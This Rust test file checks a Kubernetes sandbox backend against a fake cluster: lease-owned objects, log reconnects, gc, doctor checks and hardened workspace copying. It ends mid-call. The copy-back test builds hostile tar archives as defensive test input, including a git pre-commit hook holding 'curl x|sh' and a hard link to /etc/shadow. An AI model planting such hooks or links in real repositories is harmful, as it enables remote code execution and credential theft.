//! A controlled run's whole lifecycle, `gc` and `doctor` against the fake API server
//! (`fake.rs`): what is created in which order and owned by what, that removal follows every
//! ending, the log's reconnects and de-duplication, the workspace's copy in and back (through
//! the fake's streams: the websocket upgrade of `attach`/`exec` cannot be mocked), and the
//! messages of refusals.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::json;

use super::backend::KubernetesBackend;
use super::client::KubeError;
use super::doctor::{self, Finding};
use super::fake::{FakeCluster, Script};
use super::logs::{LogCursor, Pacing};
use super::session;
use super::tests::request;
use crate::event::Event;
use crate::render::{Mode, Output};
use crate::sandbox::backend::{Backend, BackendError, Stopping};
use crate::sandbox::engine::run::{RunEnd, RunError, RunIds, RunReport, TimeLimit};
use crate::sandbox::plan::{PrebuiltImage, RunPlan, plan};

const RUN: &str = "psb-run1";

/// The test config's plan as `run --image` makes it: every image a pushed version, the
/// workspace `workspace`.
pub(super) fn pinned_plan(workspace: &Path) -> RunPlan {
    let mut request = request();
    request.workspace = workspace.to_path_buf();
    let mut plan = plan(&request).expect("plan");
    plan.prebuilt = Some(
        (0..plan.images.len())
            .map(|i| PrebuiltImage {
                reference: format!("reg.example/fitness:1.2-{i}"),
                id: format!("sha256:{i}"),
            })
            .collect(),
    );
    plan
}

fn ids() -> RunIds {
    RunIds {
        job_id: "j".into(),
        run_id: "run1".into(),
        expert_key: "main".into(),
    }
}

fn backend(api: super::client::KubeApi, fake: &FakeCluster) -> KubernetesBackend {
    KubernetesBackend {
        api,
        streams: Arc::new(fake.clone()),
        holder: "host:42".into(),
        lease_seconds: 15,
        workspace_bytes: 1 << 20,
        pacing: Pacing {
            poll: Duration::from_millis(1),
            max_reconnects: 3,
        },
        stop: super::session::StopRequest::default(),
    }
}

/// An event line of the coordinator (`startGeneration`), told apart by `id`.
fn event(id: &str) -> String {
    format!(
        r#"{{"type":"startGeneration","id":"{id}","expertKey":"main","timestamp":1,"jobId":"j","runId":"run1","stepNumber":1,"messages":[]}}"#
    )
}

/// A log line at second `s`.
fn at(s: u32, text: &str) -> String {
    format!("2026-12-05T20:00:{s:02}.000000000Z {text}")
}

/// What the controller sees of one run: `execute`'s result (`None`: Ctrl-C dropped it), the
/// event lines it recorded, and `remove_run`'s result, which the controller calls after every
/// ending (`commands/run/execute.rs`).
struct Drive {
    result: Option<Result<RunReport, RunError>>,
    recorded: Vec<String>,
    removal: Result<(), BackendError>,
    fake: FakeCluster,
    /// The workspace on this machine.
    workspace: tempfile::TempDir,
}

/// A workspace with a note, a file the run removes, git's folder and the run data.
pub(super) fn workspace() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    let put = |rel: &str, text: &str| {
        let path = dir.path().join(rel);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(path, text).expect("write");
    };
    put("notes.md", "before");
    put("old.txt", "old");
    put(".git/HEAD", "ref: refs/heads/main");
    put("perstack/jobs/j/job.json", "{}");
    dir
}

/// Reads `rel` of `root`; `None` when it is missing.
pub(super) fn read(root: &Path, rel: &str) -> Option<String> {
    std::fs::read_to_string(root.join(rel)).ok()
}

/// Runs the pinned plan on a fake cluster as the controller does: `execute` under the time
/// limit; `ctrl_c` presses of Ctrl-C — the first asks the backend to stop (`interrupt`) and
/// goes on, unless there is nothing to wait for, the second drops the run; then `remove_run`
/// whatever happened.
async fn drive(script: Script, limit: Duration, ctrl_c: usize) -> Drive {
    drive_with(script, limit, ctrl_c, 1 << 20).await
}

/// [`drive`] with a workspace size limit of `workspace_bytes`.
async fn drive_with(script: Script, limit: Duration, ctrl_c: usize, workspace_bytes: u64) -> Drive {
    let (api, fake) = FakeCluster::start(script);
    let mut backend = backend(api, &fake);
    backend.workspace_bytes = workspace_bytes;
    let workspace = workspace();
    let plan = pinned_plan(workspace.path());
    let ids = ids();
    let (output, _writer) = Output::spawn(Mode::Json, tokio::io::sink());
    let recorded = Mutex::new(Vec::new());
    let tap = |raw: &str, _: &Event| recorded.lock().expect("lock").push(raw.to_string());
    let limit = TimeLimit {
        started: Instant::now(),
        limit,
    };
    // In a block of its own: the run (which borrows the tap) is gone before the tap's record
    // is read.
    let result = {
        let run = backend.execute(&plan, &ids, &output, false, limit, &tap);
        tokio::pin!(run);
        let mut pressed = 0;
        loop {
            tokio::select! {
                result = &mut run => break Some(result),
                () = press(&fake, pressed, ctrl_c) => {
                    pressed += 1;
                    let stopping = backend.interrupt(&plan).await.expect("interrupt");
                    if pressed > 1 || stopping == Stopping::Nothing {
                        break None;
                    }
                    assert_eq!(stopping, Stopping::CopyingBack);
                }
            }
        }
    };
    let removal = backend.remove_run(&ids.run_id).await;
    let recorded = recorded.into_inner().expect("lock");
    Drive {
        result,
        recorded,
        removal,
        fake,
        workspace,
    }
}

/// Ctrl-C number `pressed + 1` of `presses`: the first once the runtime's log is followed
/// (the workspace's copy in comes first, and takes its time on a loaded machine), the second
/// once the copy back has begun; never when there is none left.
async fn press(fake: &FakeCluster, pressed: usize, presses: usize) {
    let awaited = match pressed {
        _ if pressed >= presses => std::future::pending().await,
        0 => "GET pods/log",
        _ => "EXEC pods/psb-run1-pod/base-skill-main workspace-out",
    };
    tokio::time::sleep(Duration::from_millis(100)).await;
    while !fake.calls().iter().any(|c| c.starts_with(awaited)) {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

/// The refusal a run ended with.
fn refusal(d: &Drive) -> String {
    match &d.result {
        Some(Err(error)) => error.to_string(),
        other => panic!("not refused: {other:?}"),
    }
}

fn created(fake: &FakeCluster) -> Vec<String> {
    fake.calls()
        .into_iter()
        .filter(|c| c.starts_with("POST "))
        .collect()
}

fn deleted(fake: &FakeCluster) -> Vec<String> {
    fake.calls()
        .into_iter()
        .filter(|c| c.starts_with("DELETE "))
        .collect()
}

#[tokio::test]
async fn a_run_creates_its_objects_in_order_under_its_lease_records_its_events_and_is_removed() {
    let script = Script {
        log_chunks: vec![vec![
            at(1, &event("e1")),
            at(2, "{\"not\":\"an event\"}"),
            at(3, &event("e2")),
        ]],
        exit_code: 0,
        ..Script::default()
    };
    let d = drive(script, Duration::from_secs(10), 0).await;
    // No terminal event came: the runtime's exit is the run's end, as on Docker.
    let report = d.result.expect("not interrupted").expect("ran");
    assert!(
        matches!(
            report.end,
            RunEnd::RuntimeFailed {
                code: 0,
                oom_killed: false,
                ..
            }
        ),
        "{:?}",
        report.end
    );
    assert!(d.removal.is_ok(), "{:?}", d.removal);
    assert_eq!(d.recorded, [event("e1"), event("e2")]);
    // The Lease first, the fences before the proxy, the proxy before the Job that runs code.
    assert_eq!(
        created(&d.fake),
        [
            "POST leases",
            "POST secrets",
            "POST networkpolicies",
            "POST networkpolicies",
            "POST services",
            "POST deployments",
            "POST jobs"
        ]
    );
    // Everything is gone, the Job and its pod first, the Lease last.
    assert_eq!(d.fake.existing(), Vec::<String>::new());
    assert_eq!(
        deleted(&d.fake),
        [
            "DELETE jobs/psb-run1",
            "DELETE pods/psb-run1-pod",
            "DELETE deployments/psb-run1-egress-proxy",
            "DELETE services/psb-run1-egress-proxy",
            "DELETE networkpolicies/psb-run1-egress-proxy",
            "DELETE networkpolicies/psb-run1-run",
            "DELETE secrets/psb-run1",
            "DELETE leases/psb-run1"
        ]
    );
}

#[tokio::test]
async fn an_out_of_memory_runtime_is_reported_as_such() {
    let d = drive(
        Script {
            log_chunks: vec![vec![at(1, &event("e1"))]],
            exit_code: 137,
            terminated_reason: Some("OOMKilled".into()),
            ..Script::default()
        },
        Duration::from_secs(10),
        0,
    )
    .await;
    let report = d.result.expect("not interrupted").expect("ran");
    assert!(
        matches!(
            report.end,
            RunEnd::RuntimeFailed {
                code: 137,
                oom_killed: true,
                ..
            }
        ),
        "{:?}",
        report.end
    );
}

#[tokio::test]
async fn every_object_a_run_creates_is_owned_by_its_lease_and_its_secret_holds_this_runs_values() {
    let (api, fake) = FakeCluster::start(Script::default());
    let backend = backend(api.clone(), &fake);
    let objects = backend
        .objects(&pinned_plan(Path::new("/ws")), &ids(), None, 60)
        .expect("objects");
    let lease = session::launch(&api, &objects).await.expect("launch");
    let uid = lease["metadata"]["uid"].clone();
    assert_eq!(lease["spec"]["holderIdentity"], "host:42");
    assert_eq!(lease["spec"]["leaseDurationSeconds"], 15);
    for key in fake.existing() {
        let (resource, name) = key.split_once('/').expect("key");
        if resource == "leases" || resource == "pods" {
            continue;
        }
        let object = fake.object(resource, name).expect("object");
        assert_eq!(
            object["metadata"]["ownerReferences"],
            json!([{"apiVersion": "coordination.k8s.io/v1", "kind": "Lease", "name": RUN, "uid": uid}]),
            "{key}"
        );
        assert_eq!(
            object["metadata"]["labels"]["app.kubernetes.io/instance"], RUN,
            "{key}"
        );
    }
    let data = fake.object("secrets", RUN).expect("secret")["stringData"].clone();
    assert_eq!(data["query"], "the query");
    assert_eq!(data["ANTHROPIC_API_KEY"], "sk-ant-value");
    assert_eq!(data["WEB_KEY"], "web-secret-value");
    assert_eq!(data["OFFLINE_KEY"], "offline-secret-value");
    let tokens: Vec<&str> = data
        .as_object()
        .expect("map")
        .iter()
        .filter(|(k, _)| k.starts_with("proxy-token-"))
        .map(|(_, v)| v.as_str().expect("token"))
        .collect();
    // The runtime and `web` (allowedDomains) are principals; `offline` is not.
    assert_eq!(tokens.len(), 2, "{data}");
    assert!(
        tokens
            .iter()
            .all(|t| t.len() == 64 && t.chars().all(|c| c.is_ascii_hexdigit()))
    );
    assert_ne!(tokens[0], tokens[1]);
    // The values are in the Secret only: the Job refers to them.
    let job = fake.object("jobs", RUN).expect("job").to_string();
    for value in ["the query", "sk-ant-value", "web-secret-value", tokens[0]] {
        assert!(!job.contains(value), "{value} in the Job");
    }
}

#[test]
fn a_plan_without_pushed_images_or_with_a_checkpoint_to_feed_is_refused_with_what_to_do() {
    let (api, fake) = tokio::runtime::Runtime::new()
        .expect("runtime")
        .block_on(async { FakeCluster::start(Script::default()) });
    let backend = backend(api, &fake);
    let unpinned = plan(&request()).expect("plan");
    let message = backend
        .objects(&unpinned, &ids(), None, 60)
        .expect_err("refused")
        .to_string();
    assert!(message.contains("needs --image REF"), "{message}");
    let mut continued = pinned_plan(Path::new("/ws"));
    continued.runtime.stdin = Some("{}".into());
    let message = backend
        .objects(&continued, &ids(), None, 60)
        .expect_err("refused")
        .to_string();
    assert!(message.contains("continuing a job"), "{message}");
}

#[tokio::test]
async fn a_dropped_log_is_reconnected_from_the_last_lines_second_and_each_line_is_recorded_once() {
    let script = Script {
        log_chunks: vec![
            vec![at(1, &event("a")), at(2, &event("b"))],
            // The API repeats the whole second 2 after a reconnect; `c` is new in it.
            vec![at(2, &event("b")), at(2, &event("c")), at(3, &event("d"))],
        ],
        exit_code: 3,
        ..Script::default()
    };
    let d = drive(script, Duration::from_secs(10), 0).await;
    let report = d.result.expect("not interrupted").expect("ran");
    assert!(matches!(report.end, RunEnd::RuntimeFailed { code: 3, .. }));
    assert_eq!(d.recorded, [event("a"), event("b"), event("c"), event("d")]);
    let logs: Vec<String> = d
        .fake
        .calls()
        .into_iter()
        .filter(|c| c.contains("pods/log"))
        .collect();
    assert_eq!(
        logs,
        [
            "GET pods/log/psb-run1-pod follow",
            "GET pods/log/psb-run1-pod?since=2026-12-05T20:00:02Z follow",
            // After the container ended: one read without follow for what a drop missed.
            "GET pods/log/psb-run1-pod?since=2026-12-05T20:00:03Z",
        ]
    );
    assert_eq!(d.fake.existing(), Vec::<String>::new());
}

#[test]
fn the_cursor_skips_replayed_lines_of_the_same_time_but_not_new_ones() {
    let mut cursor = LogCursor::default();
    assert_eq!(cursor.restart(), None);
    assert_eq!(cursor.accept(&at(5, "x")).as_deref(), Some("x"));
    assert_eq!(
        cursor.accept(&at(5, "x")).as_deref(),
        Some("x"),
        "a repeated line is a new line within one read"
    );
    assert!(cursor.restart().is_some());
    assert_eq!(cursor.accept(&at(4, "old")), None);
    assert_eq!(cursor.accept(&at(5, "x")), None);
    assert_eq!(cursor.accept(&at(5, "x")), None);
    assert_eq!(cursor.accept(&at(5, "y")).as_deref(), Some("y"));
    assert_eq!(
        cursor.accept("no time here").as_deref(),
        Some("no time here")
    );
}

#[tokio::test]
async fn a_log_that_never_comes_back_gives_up_after_the_reconnects_and_the_run_is_removed() {
    let script = Script {
        log_chunks: vec![
            vec![at(1, &event("a"))],
            vec![],
            vec![],
            vec![],
            vec![],
            vec![],
            vec![],
        ],
        ..Script::default()
    };
    let d = drive(script, Duration::from_secs(10), 0).await;
    let error = d.result.expect("not interrupted").expect_err("lost");
    assert!(
        matches!(
            error,
            RunError::Kubernetes(KubeError::LogLost { attempts: 3, .. })
        ),
        "{error}"
    );
    assert_eq!(d.recorded, [event("a")]);
    assert_eq!(d.fake.existing(), Vec::<String>::new());
}

#[tokio::test]
async fn a_refused_creation_stops_the_launch_says_which_permission_and_what_was_made_is_removed() {
    let script = Script::default().forbidding("POST", "deployments");
    let d = drive(script, Duration::from_secs(10), 0).await;
    let message = refusal(&d);
    assert!(
        message.starts_with(
            "the cluster refused to create deployments in namespace ci-agents (403 Forbidden"
        ),
        "{message}"
    );
    assert!(
        message.contains("doctor --backend kubernetes -n ci-agents"),
        "{message}"
    );
    assert!(
        !created(&d.fake).contains(&"POST jobs".to_string()),
        "nothing runs after a refusal"
    );
    assert_eq!(d.fake.existing(), Vec::<String>::new());
    assert!(d.removal.is_ok());
}

#[tokio::test]
async fn a_refused_log_is_an_actionable_error_not_a_reconnect_loop() {
    let script = Script::logging(vec![at(1, "a")]).forbidding("GET", "pods/log");
    let d = drive(script, Duration::from_secs(10), 0).await;
    let message = refusal(&d);
    assert!(message.contains("refused to get pods/log"), "{message}");
    let logs = d
        .fake
        .calls()
        .into_iter()
        .filter(|c| c.contains("pods/log"))
        .count();
    assert_eq!(logs, 1);
    assert_eq!(d.fake.existing(), Vec::<String>::new());
}

#[tokio::test]
async fn a_refused_removal_is_reported_to_the_controller() {
    let script = Script::logging(vec![at(1, &event("a"))]).forbidding("DELETE", "secrets");
    let d = drive(script, Duration::from_secs(10), 0).await;
    let error = d.removal.expect_err("refused");
    assert!(
        error.to_string().contains("refused to delete secrets"),
        "{error}"
    );
    // The rest is removed all the same, the Lease too: the cluster collects what it owns.
    assert_eq!(d.fake.existing(), ["secrets/psb-run1"]);
}

#[tokio::test]
async fn an_image_that_cannot_be_pulled_ends_the_run_with_the_reason_and_it_is_removed() {
    let script = Script {
        waiting: Some("ImagePullBackOff".into()),
        log_chunks: vec![vec![at(1, "never")]],
        ..Script::default()
    };
    let d = drive(script, Duration::from_secs(10), 0).await;
    assert_eq!(
        refusal(&d),
        "the run pod psb-run1-pod did not start: ImagePullBackOff"
    );
    assert!(d.recorded.is_empty());
    assert_eq!(d.fake.existing(), Vec::<String>::new());
}

fn lease(name: &str, renewed: &str) -> serde_json::Value {
    json!({"apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
        "metadata": {"name": name, "labels": {"app.kubernetes.io/managed-by": "perstack-sandbox",
            "app.kubernetes.io/instance": name}},
        "spec": {"holderIdentity": "gone:1", "leaseDurationSeconds": 15, "renewTime": renewed}})
}

fn secret_of(name: &str) -> serde_json::Value {
    json!({"apiVersion": "v1", "kind": "Secret",
        "metadata": {"name": name, "labels": {"app.kubernetes.io/managed-by": "perstack-sandbox",
            "app.kubernetes.io/instance": name}}})
}

#[tokio::test]
async fn gc_removes_the_runs_of_expired_leases_and_leaves_renewed_ones() {
    let (api, fake) = FakeCluster::start(Script::default());
    let fresh = k8s_openapi::jiff::Timestamp::now().to_string();
    fake.insert("leases", lease("psb-dead", "2026-01-01T00:00:00.000000Z"));
    fake.insert("secrets", secret_of("psb-dead"));
    fake.insert("leases", lease("psb-live", &fresh));
    fake.insert("secrets", secret_of("psb-live"));

    let dry = super::gc::sweep(&api, true).await.expect("sweep");
    assert_eq!(dry.stale.len(), 1);
    assert_eq!(fake.existing().len(), 4, "a dry run removes nothing");

    let sweep = super::gc::sweep(&api, false).await.expect("sweep");
    assert_eq!(sweep.stale[0].name, "psb-dead");
    assert_eq!(sweep.stale[0].holder, "gone:1");
    assert_eq!(sweep.live, 1);
    assert_eq!(fake.existing(), ["leases/psb-live", "secrets/psb-live"]);
}

#[test]
fn a_lease_expires_its_duration_after_its_last_renewal() {
    let now: k8s_openapi::jiff::Timestamp = "2026-12-05T20:00:20Z".parse().expect("time");
    assert!(!super::gc::expired(
        &lease("x", "2026-12-05T20:00:06.000000Z"),
        now
    ));
    assert!(super::gc::expired(
        &lease("x", "2026-12-05T20:00:04.000000Z"),
        now
    ));
    assert!(
        super::gc::expired(&json!({"spec": {}}), now),
        "no renewal time: expired"
    );
}

#[tokio::test]
async fn doctor_lists_each_missing_permission_by_access_review() {
    let (api, _) = FakeCluster::start(Script {
        denied: BTreeSet::from(["get pods/log".to_string(), "create leases".to_string()]),
        ..Script::default()
    });
    match doctor::rbac(&api).await.expect("reviewed") {
        Finding::Fail(detail, fix) => {
            assert_eq!(
                detail,
                "missing in namespace ci-agents: create leases (coordination.k8s.io), get pods/log (core)"
            );
            assert!(fix.contains("Running on Kubernetes"), "{fix}");
        }
        other => panic!("{other:?}"),
    }
    let (api, fake) = FakeCluster::start(Script::default());
    assert!(matches!(
        doctor::rbac(&api).await.expect("reviewed"),
        Finding::Ok(_)
    ));
    let reviews = fake
        .calls()
        .iter()
        .filter(|c| c.contains("selfsubjectaccessreviews"))
        .count();
    assert_eq!(reviews, doctor::PERMISSIONS.len());
}

#[tokio::test]
async fn doctor_reads_the_namespaces_pod_security_level_and_says_when_it_cannot() {
    let level = |value: &str| Script {
        namespace_labels: BTreeMap::from([(doctor::PSA_ENFORCE.to_string(), value.to_string())]),
        ..Script::default()
    };
    let (api, _) = FakeCluster::start(level("restricted"));
    assert!(matches!(doctor::pod_security(&api).await, Finding::Ok(_)));
    let (api, _) = FakeCluster::start(level("baseline"));
    match doctor::pod_security(&api).await {
        Finding::Fail(detail, fix) => {
            assert_eq!(detail, "namespace ci-agents enforces only baseline");
            assert_eq!(
                fix,
                "kubectl label namespace ci-agents pod-security.kubernetes.io/enforce=restricted"
            );
        }
        other => panic!("{other:?}"),
    }
    let (api, _) = FakeCluster::start(Script::default().forbidding("GET", "namespaces"));
    assert!(
        matches!(doctor::pod_security(&api).await, Finding::Unknown(m) if m.contains("may not read namespace ci-agents"))
    );
}

/// Where `prefix` is first (or, `last`, last) among the fake's calls.
fn call_index(fake: &FakeCluster, prefix: &str, last: bool) -> usize {
    let calls = fake.calls();
    let mut found = calls
        .iter()
        .enumerate()
        .filter(|(_, c)| c.starts_with(prefix));
    let found = if last {
        found.next_back()
    } else {
        found.next()
    };
    found
        .unwrap_or_else(|| panic!("no {prefix} in {calls:#?}"))
        .0
}

/// The run's changes in the pod: a note edited, a file made, one removed, and a write to git's
/// folder (read-only for base-skill in a real pod; here to show it never comes back).
pub(super) fn run_changes(pod: &Path) {
    std::fs::write(pod.join("notes.md"), "after").expect("write");
    std::fs::create_dir_all(pod.join("made")).expect("mkdir");
    std::fs::write(pod.join("made/new.txt"), "new").expect("write");
    std::fs::remove_file(pod.join("old.txt")).expect("remove");
    std::fs::write(pod.join(".git/HEAD"), "ref: refs/heads/evil").expect("write");
}

#[tokio::test]
async fn the_workspace_goes_in_before_the_runtime_starts_and_comes_back_after_its_end_before_removal()
 {
    let script = Script {
        log_chunks: vec![vec![at(1, &event("e1"))]],
        run_changes: Some(run_changes),
        ..Script::default()
    };
    let d = drive(script, Duration::from_secs(10), 0).await;
    d.result.expect("not interrupted").expect("ran");
    // In: attached once the Job exists, before the runtime's log is read; the runtime waited.
    let attach = call_index(&d.fake, "ATTACH pods/psb-run1-pod/workspace-in", false);
    assert!(call_index(&d.fake, "POST jobs", false) < attach);
    assert!(attach < call_index(&d.fake, "GET pods/log", false));
    // Back: from base-skill, after the runtime's last log read, before anything is deleted.
    let exec = call_index(
        &d.fake,
        "EXEC pods/psb-run1-pod/base-skill-main workspace-out",
        false,
    );
    assert!(call_index(&d.fake, "GET pods/log", true) < exec);
    assert!(exec < call_index(&d.fake, "DELETE ", false));
    // What the pod got: the workspace as base-skill sees it on Docker, less the run data.
    let pod = d.fake.pod_workspace().expect("the workspace went in");
    assert_eq!(
        read(&pod, ".git/HEAD").as_deref(),
        Some("ref: refs/heads/evil")
    );
    assert!(!pod.join("perstack").exists(), "the run data never goes in");
    assert_came_back(d.workspace.path());
    assert_eq!(d.fake.existing(), Vec::<String>::new());
}

#[tokio::test]
async fn the_run_pod_has_the_copy_containers_hardened_the_copy_in_first_and_the_hold_last() {
    let (api, fake) = FakeCluster::start(Script::default());
    let backend = backend(api, &fake);
    let workspace = workspace();
    let plan = pinned_plan(workspace.path());
    let copy = super::workspace::WorkspaceCopy::prepare(&plan, backend.caps(), |s| {
        super::manifest::container_name(&plan, s)
    })
    .expect("prepared")
    .expect("base-skill mounts the workspace");
    let objects = backend
        .objects(&plan, &ids(), Some(&copy), 4242)
        .expect("objects");
    let job = objects.owned.last().expect("job");
    let pod = &job["spec"]["template"]["spec"];
    let copy_in = &pod["initContainers"][0];
    assert_eq!(copy_in["name"], "workspace-in");
    assert_eq!(copy_in["stdin"], true);
    assert_eq!(copy_in["stdinOnce"], true);
    assert_eq!(
        copy_in["command"],
        json!([
            "/usr/local/bin/perstack-sandbox",
            "workspace-in",
            "--workspace",
            "/workspace",
            "--max-bytes",
            "1048576",
            "--max-entries",
            "500000"
        ])
    );
    let hold = pod["containers"]
        .as_array()
        .expect("containers")
        .last()
        .expect("hold");
    assert_eq!(hold["name"], "workspace-hold");
    assert_eq!(
        hold["command"],
        json!([
            "/usr/local/bin/perstack-sandbox",
            "workspace-hold",
            "--seconds",
            "4242"
        ])
    );
    assert!(hold["volumeMounts"].to_string().contains("/tmp"));
    assert!(!hold["volumeMounts"].to_string().contains("/workspace"));
    let base_skill = &pod["initContainers"][1];
    // The plan's first base-skill (each Expert has one; they share the workspace).
    assert_eq!(base_skill["name"], "base-skill-main");
    for container in [copy_in, hold] {
        assert_eq!(container["image"], base_skill["image"]);
        assert_eq!(container["securityContext"], base_skill["securityContext"]);
        assert!(container.get("args").is_none(), "{container}");
    }
    assert_eq!(
        pod["volumes"][0],
        json!({"name": "workspace", "emptyDir": {"sizeLimit": "1048576"}})
    );
    assert_eq!(
        copy.copy_out_command(),
        [
            "/usr/local/bin/perstack-sandbox",
            "workspace-out",
            "--workspace",
            "/workspace",
            "--protected",
            "git:.git",
            "--protected",
            "run-data:perstack"
        ]
    );
}

/// A tar of `entries` (path, contents), written by `tar::Builder` (which refuses `..` and
/// absolute paths; `skill::base::archive`'s tests cover those with raw headers).
fn tar_of(entries: &[(&str, &str)], hard_link: Option<(&str, &str)>) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (path, text) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        builder
            .append_data(&mut header, path, text.as_bytes())
            .expect("append");
    }
    if let Some((path, target)) = hard_link {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(tar::EntryType::Link);
        header.set_size(0);
        builder
            .append_link(&mut header, path, target)
            .expect("link");
    }
    builder.into_inner().expect("tar")
}

#[tokio::test]
async fn a_hostile_copy_back_is_refused_whole_changes_nothing_here_and_the_run_is_removed() {
    let cases = [
        (
            tar_of(
                &[("notes.md", "evil"), (".git/hooks/pre-commit", "curl x|sh")],
                None,
            ),
            "the workspace archive's entry .git/hooks/pre-commit is refused: it is a protected path",
        ),
        (
            tar_of(
                &[("notes.md", "evil"), ("PerStack/jobs/j/job.json", "forged")],
                None,
            ),
            "the workspace archive's entry PerStack/jobs/j/job.json is refused: it is in the reserved run-data folder",
        ),
        (
            tar_of(&[("notes.md", "evil")], Some(("shadow", "/etc/shadow"))),
            "the workspace archive's entry shadow is refused: a hard link",
        ),
        (
            tar_of(&[("notes.md", "evil"), ("big", &"x".repeat(2 << 20))], None),
            "more than 1048576 bytes",
        ),
        (
            // Cut after its first entry: old.txt would look removed by the run.
            tar_of(&[("notes.md", "evil"), ("old.txt", "old")], None)[..1024].to_vec(),
            "it ends before its end-of-archive marker (the stream was cut)",
        ),
    ];
    for (tar, why) in cases {
        let script = Script {
            log_chunks: vec![vec![at(1, &event("e1"))]],
            copy_back: Some(tar),
            ..Script::default()
        };
        let d = drive(script, Duration::from_secs(10), 0).await;
        let message = refusal(&d);
        assert!(
            message.starts_with("the workspace was not copied back from pod psb-run1-pod: "),
            "{message}"
        );
        assert!(message.contains(why), "{message}");
        let host = d.workspace.path();
        assert_eq!(read(host, "notes.md").as_deref(), Some("before"), "{why}");
        assert_eq!(read(host, "old.txt").as_deref(), Some("old"), "{why}");
        assert!(!host.join(".git/hooks").exists());
        assert_eq!(
            read(host, "perstack/jobs/j/job.json").as_deref(),
            Some("{}")
        );
        // The events came all the same, and the run is gone.
        assert_eq!(d.recorded, [event("e1")]);
        assert!(call_index(&d.fake, "EXEC ", false) < call_index(&d.fake, "DELETE ", false));
        assert_eq!(d.fake.existing(), Vec::<String>::new(), "{why}");
        assert!(d.removal.is_ok());
    }
}

#[tokio::test]
async fn a_workspace_bigger_than_the_pods_is_refused_before_anything_is_created() {
    let d = drive_with(Script::default(), Duration::from_secs(10), 0, 10).await;
    let message = refusal(&d);
    let workspace = d.workspace.path().canonicalize().expect("real");
    assert!(
        message.starts_with(&format!(
            "the workspace {} holds 29 bytes in 4 entries; a Kubernetes run's workspace (an emptyDir) takes at most 10 bytes and 500000 entries",
            workspace.display()
        )),
        "{message}"
    );
    assert!(
        message.contains("nothing was created in the cluster"),
        "{message}"
    );
    assert!(
        !d.fake.calls().iter().any(|c| c.starts_with("POST ")),
        "{:?}",
        d.fake.calls()
    );
}

#[tokio::test]
async fn a_refused_copy_in_ends_the_run_before_the_runtime_and_leaves_nothing() {
    let script = Script::logging(vec![at(1, &event("e1"))]).forbidding("POST", "pods/attach");
    let d = drive(script, Duration::from_secs(10), 0).await;
    let message = refusal(&d);
    assert!(message.contains("cannot create pods/attach"), "{message}");
    let calls = d.fake.calls();
    assert!(calls.iter().any(|c| c.starts_with("ATTACH ")));
    assert!(
        !calls
            .iter()
            .any(|c| c.contains("pods/log") || c.starts_with("EXEC ")),
        "{calls:#?}"
    );
    assert!(d.recorded.is_empty());
    assert_eq!(
        read(d.workspace.path(), "notes.md").as_deref(),
        Some("before")
    );
    assert_eq!(d.fake.existing(), Vec::<String>::new());
    assert!(d.removal.is_ok());
}

/// A run whose runtime goes on until it is stopped, and changes the pod's workspace.
fn endless_run() -> Script {
    Script {
        log_chunks: vec![vec![at(1, "a")]],
        hang_logs: true,
        run_changes: Some(run_changes),
        ..Script::default()
    }
}

/// The runtime was stopped in its container, then the workspace read back from base-skill,
/// then the run removed: in that order.
fn assert_stopped_then_copied_back_then_removed(fake: &FakeCluster) {
    let stop = call_index(fake, "EXEC pods/psb-run1-pod/runtime runtime-stop", false);
    let back = call_index(
        fake,
        "EXEC pods/psb-run1-pod/base-skill-main workspace-out",
        false,
    );
    assert!(call_index(fake, "GET pods/log", false) < stop);
    assert!(stop < back, "the runtime stopped before the copy back");
    assert!(back < call_index(fake, "DELETE ", false));
    assert_eq!(fake.existing(), Vec::<String>::new());
}

/// What came back to the host's [`workspace`] from a pod that [`run_changes`]: the run's
/// changes, and nothing of git's folder or the run data.
pub(super) fn assert_came_back(host: &Path) {
    assert_eq!(read(host, "notes.md").as_deref(), Some("after"));
    assert_eq!(read(host, "made/new.txt").as_deref(), Some("new"));
    assert_eq!(
        read(host, "old.txt"),
        None,
        "removed in the pod, removed here"
    );
    assert_eq!(
        read(host, ".git/HEAD").as_deref(),
        Some("ref: refs/heads/main"),
        "the protected paths never come back"
    );
    assert_eq!(
        read(host, "perstack/jobs/j/job.json").as_deref(),
        Some("{}"),
        "the run data never comes back"
    );
}

/// The host's workspace is as it was.
fn assert_unchanged(host: &Path) {
    assert_eq!(read(host, "notes.md").as_deref(), Some("before"));
    assert_eq!(read(host, "old.txt").as_deref(), Some("old"));
    assert!(!host.join("made").exists());
}

#[tokio::test]
async fn ctrl_c_stops_the_runtime_brings_the_workspace_back_then_removes_the_run() {
    let d = drive(endless_run(), Duration::from_secs(30), 1).await;
    let report = d.result.expect("one Ctrl-C lets it end").expect("ran");
    // The runtime was stopped (SIGTERM: 143); the controller reads that as "stopped on request".
    assert!(
        matches!(report.end, RunEnd::RuntimeFailed { code: 143, .. }),
        "{:?}",
        report.end
    );
    assert_stopped_then_copied_back_then_removed(&d.fake);
    assert_came_back(d.workspace.path());
    assert!(d.removal.is_ok());
}

#[tokio::test]
async fn the_time_limit_stops_the_runtime_brings_the_workspace_back_then_removes_the_run() {
    // Long enough for the copy in on a loaded machine: the limit strikes while the log is
    // followed.
    let d = drive(endless_run(), Duration::from_secs(3), 0).await;
    let error = d.result.expect("not interrupted").expect_err("timed out");
    assert!(matches!(error, RunError::TimedOut(_)), "{error}");
    assert_stopped_then_copied_back_then_removed(&d.fake);
    assert_came_back(d.workspace.path());
}

#[tokio::test]
async fn a_second_ctrl_c_skips_the_copy_back_and_removes_the_run_at_once() {
    let script = Script {
        hang_copy_back: true,
        ..endless_run()
    };
    let d = drive(script, Duration::from_secs(30), 2).await;
    assert!(d.result.is_none(), "dropped by the second Ctrl-C");
    let calls = d.fake.calls();
    assert!(
        calls.iter().any(|c| c.ends_with("workspace-out")),
        "{calls:#?}"
    );
    assert_unchanged(d.workspace.path());
    assert_eq!(d.fake.existing(), Vec::<String>::new());
    assert!(d.removal.is_ok());
}

#[tokio::test]
async fn a_refused_copy_back_after_ctrl_c_writes_nothing_says_why_and_removes_the_run() {
    let script = Script {
        copy_back: Some(tar_of(
